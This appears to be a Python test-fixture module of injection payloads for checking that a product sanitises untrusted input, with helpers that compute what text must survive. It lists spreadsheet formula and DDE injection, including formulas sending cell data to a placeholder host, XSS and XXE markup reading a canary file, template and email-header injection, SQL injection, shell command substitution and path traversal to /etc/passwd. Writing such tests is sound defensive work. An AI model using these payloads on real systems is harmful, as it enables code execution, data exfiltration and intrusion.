"""Payloads by what they attack, and what of each must still be read after it went through.

Written for this product. `CANARY_FILE` in a payload stands for a file whose text must never turn
up in an output.
"""

from __future__ import annotations

import unicodedata

CANARY_FILE = "{canary}"
#: A host nobody has: TEST-NET-1 of RFC 5737.
_HOST = "192.0.2.7"

FORMULAS = (
    "=1+1",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    f'=HYPERLINK("http://{_HOST}/?x="&A1,"点这里")',
    f'=WEBSERVICE("http://{_HOST}/"&A2)',
    f'=IMPORTXML(CONCAT("http://{_HOST}/?v=", CONCATENATE(A2:E2)), "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "_x003D_1+1",
    "_x000D_=1+1",
    "'=1+1",
    '"=1+1',
    "=1+1;=2+2",
    "[外部.xlsx]Sheet1!A1",
    "{=file|'C:\\x.xls'!A1}",
    "#REF!",
    f"http://{_HOST}/点我",
    f"mailto:x@{_HOST}",
    "internal:'审核'!A1",
    f"external:\\\\{_HOST}\\c$\\x.xlsx",
)
MARKUP = (
    "<script>alert(1)</script>",
    f'<img src="http://{_HOST}/x.png" onerror=alert(1)>',
    f'<img src="file://{CANARY_FILE}">',
    f'<link rel="attachment" href="file://{CANARY_FILE}">',
    f'<a rel=attachment href="file://{CANARY_FILE}">x</a>',
    f'<object data="file://{CANARY_FILE}"></object>',
    f'<iframe src="http://{_HOST}/"></iframe>',
    f'<svg onload=alert(1)><image href="http://{_HOST}/x.png"/></svg>',
    f"<style>@import url(http://{_HOST}/x.css);</style>",
    f"<p style=\"background:url('http://{_HOST}/x.png')\">x</p>",
    f"</td></table><meta http-equiv=refresh content='0;url=http://{_HOST}/'>",
    '"><b>fett</b>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "--></style></script><h1>x</h1>",
    "<![CDATA[x]]>",
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{CANARY_FILE}">]>&e;',
    "&lt;b&gt; &amp; &#x3c;script&#x3e;",
    '<c r="A1"><f>1+1</f></c>',
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "{% include 'baoshen.toml' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config|attr('x') }}",
    "{# weg #}",
    "%(name)s %s %d {0} {x}",
    "{serial}",
)
HEADERS = (
    "x\r\nBcc: alle@evil.example",
    "x\nSubject: anders",
    "x\r\n\r\nein zweiter Rumpf",
    "x\u2028Bcc: alle@evil.example",
    "=?utf-8?B?DQpCY2M6IGFsbGVAZXZpbC5leGFtcGxl?=",
    "a@b.example, alle@evil.example",
    '{"event": "forged"}',
    'x\n{"event": "forged", "level": "info"}',
)
INVISIBLE = (
    "报名\u202exslx.exe",
    "张\u200b三\u200d丰\ufeff",
    "\u2066x\u2069\u200f",
    "e\u0301e\u0301" + "\u0301" * 40,
    "nul\x00nul",
    "\x01\x02\x07\x08\x0b\x0c\x1f\x7f",
    "\x1b[31mrot\x1b[0m\x1b]0;titel\x07",
    "\x9b31mrot",
    "\ufffe\uffff",
    "a\u0000b\u001bc\u0085d",
)
OTHERS = (
    "'; DROP TABLE applications; --",
    "1' OR '1'='1",
    'Robert"); DELETE FROM mails; --',
    "$(touch /tmp/x) `id` ; id | id && id",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "nul.xlsx",
    ".hidden",
    "~$kein.xlsx",
    "name. ",
    "😀👩‍👩‍👧‍👦🏴‍☠️",
    "𬱖䶮㛃",
    "\U000f0000\ue000",
    "ÄöüßĞİı",
    "١٢٣٤５６７",
    "True",
    "None",
    "1e309",
    "-0",
    "0x1F",
    "1/2",
    "长" * 400,
    "A" * 900,
    "x" * 40_000,
)
PAYLOADS = (*FORMULAS, *MARKUP, *TEMPLATES, *HEADERS, *INVISIBLE, *OTHERS)

#: Names a sheet or a defined name may have in a sender's workbook.
SHEET_NAMES = ("'=1+1", "=cmd", '历史&"a"', "<b>&amp;", "History", "{{7*7}}")


def told(payload: str) -> str:
    """What must still stand there: no white space, no character without a shape of its own."""
    return "".join(
        char
        for char in unicodedata.normalize("NFC", payload)
        if unicodedata.category(char)[0] not in "CZM" and not char.isspace()
    )


def with_canary(payload: str, path: str) -> str:
    """The payload with the place of the file whose text must not turn up."""
    return payload.replace(CANARY_FILE, path)


def file_name(payload: str, most_bytes: int = 200) -> str:
    """The payload as a name a file system takes; "" when nothing of it is left."""
    name = payload.replace("/", "∕").replace("\0", "␀")
    cut = name.encode("utf-8", "surrogateescape")[:most_bytes].decode("utf-8", "ignore")
    return "" if cut in ("", ".", "..") else cut
